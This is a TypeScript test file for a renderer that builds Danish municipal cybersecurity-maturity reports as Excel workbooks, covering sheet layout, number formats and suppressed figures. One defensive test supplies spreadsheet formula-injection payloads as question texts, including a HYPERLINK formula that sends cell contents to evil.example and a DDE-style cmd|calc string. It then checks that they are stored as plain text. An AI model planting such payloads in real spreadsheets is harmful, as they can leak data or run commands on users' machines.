import ExcelJS from 'exceljs';
import { municipalityReportModel, nationalReportModel, SUPPRESSED_QUESTION_KEY } from '../../test/fixtures';
import { renderXlsx } from './xlsx-report.renderer';

async function read(buffer: Buffer): Promise<ExcelJS.Workbook> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(buffer as unknown as ExcelJS.Buffer);
  return workbook;
}
/** The sheet as objects keyed by its header row. */
function records(sheet: ExcelJS.Worksheet): Array<Record<string, ExcelJS.Cell>> {
  const header = (sheet.getRow(1).values as unknown[]).slice(1) as string[];
  const out: Array<Record<string, ExcelJS.Cell>> = [];
  sheet.eachRow((row, n) => {
    if (n > 1) out.push(Object.fromEntries(header.map((h, i) => [h, row.getCell(i + 1)])));
  });
  return out;
}

describe(renderXlsx.name, () => {
  const model = municipalityReportModel();
  let workbook: ExcelJS.Workbook;

  beforeAll(async () => {
    workbook = await read(await renderXlsx(model));
  });

  it('has a sheet each for the summary, the areas, the questions and the number questions', () => {
    expect(workbook.worksheets.map((s) => s.name)).toEqual([
      'Oversigt',
      'Områder',
      'Spørgsmål',
      'Angreb og brud',
    ]);
    for (const sheet of workbook.worksheets) {
      expect(sheet.getRow(1).font?.bold).toBe(true);
      expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
      expect(sheet.getColumn(1).width).toBeGreaterThan(10);
    }
  });

  it('writes figures as typed numbers with a number format, which a Danish Excel shows with a comma', () => {
    const summary = records(workbook.getWorksheet('Oversigt')!);
    const own = summary.find((r) => r.Oplysning.value === 'Samlet indeks – kommunen')!;
    expect(own.Værdi.type).toBe(ExcelJS.ValueType.Number);
    expect(own.Værdi.value).toBe(3.364);
    expect(own.Værdi.numFmt).toBe('0.00');
    const areas = records(workbook.getWorksheet('Områder')!);
    expect(areas[0].Område.value).toBe(model.national.areas[0].title);
    expect(areas[0].Landsgennemsnit.value).toBe(model.national.areas[0].mean);
    expect(areas[0]['Antal kommuner (n)'].numFmt).toBe('0');
    const questions = records(workbook.getWorksheet('Spørgsmål')!);
    expect(questions).toHaveLength(model.national.questions.length);
    const negative = questions.find((q) => typeof q.Forskel.value === 'number' && q.Forskel.value < 0)!;
    expect(negative.Forskel.numFmt).toBe('+0.00;-0.00;0.00');
  });

  it('marks a hidden figure in Danish instead of 0 or an empty cell', () => {
    const hidden = records(workbook.getWorksheet('Spørgsmål')!).find(
      (q) => q.Nøgle.value === SUPPRESSED_QUESTION_KEY,
    )!;
    expect(hidden.Landsgennemsnit.value).toBe('Skjult (færre end 5 kommuner)');
    expect(hidden.Median.value).toBe('Skjult (færre end 5 kommuner)');
    const numbers = records(workbook.getWorksheet('Angreb og brud')!);
    expect(numbers.map((n) => n.Landsgennemsnit.value)).toContain('Skjult (færre end 5 kommuner)');
  });

  it('keeps a question text that starts with = + - or @ a text cell, never a formula', async () => {
    const hostile = municipalityReportModel();
    const texts = ['=HYPERLINK("https://evil.example/?x="&A1,"Klik")', '+1+cmd|calc', '-2+3', '@SUM(1,2)'];
    texts.forEach((text, i) => {
      hostile.national.questions[i].text = text;
      hostile.figures.questions[i].text = text;
    });
    const buffer = await renderXlsx(hostile);
    const questions = records((await read(buffer)).getWorksheet('Spørgsmål')!);
    for (const text of texts) {
      const cell = questions.find((q) => q.Spørgsmål.value === text)!.Spørgsmål;
      expect(cell.type).toBe(ExcelJS.ValueType.String);
      expect(cell.formula).toBeUndefined();
      // Text format: Excel keeps it text even when someone edits the cell.
      expect(cell.numFmt).toBe('@');
    }
  });

  it('has no own figures in the national report', async () => {
    const national = await read(await renderXlsx(nationalReportModel()));
    const header = (national.getWorksheet('Spørgsmål')!.getRow(1).values as unknown[]).slice(1);
    expect(header).not.toContain('Kommunen');
    expect(header).toContain('Landsgennemsnit');
  });

  it('has a sheet of incidents by maturity quartile in the national report only', async () => {
    const national = await read(await renderXlsx(nationalReportModel()));
    const rows = records(national.getWorksheet('Hændelser og modenhed')!);
    expect(rows.map((r) => [r['Kvartil (samlet indeks)'].value, r['Antal kommuner (n)'].value])).toEqual([
      ['Kvartil 1 (laveste modenhed)', 21],
      ['Kvartil 2', 21],
      ['Kvartil 3', 21],
      ['Kvartil 4 (højeste modenhed)', 21],
      ['Alle kommuner', 98],
    ]);
    const rates = rows.map((r) => r['Hændelser pr. 10.000 indbyggere'].value);
    expect(rates).toEqual(['Skjult (færre end 5 kommuner)', 31.4, 27.25, 22.8, 28.6]);
    expect(workbook.getWorksheet('Hændelser og modenhed')).toBeUndefined();
  });
});
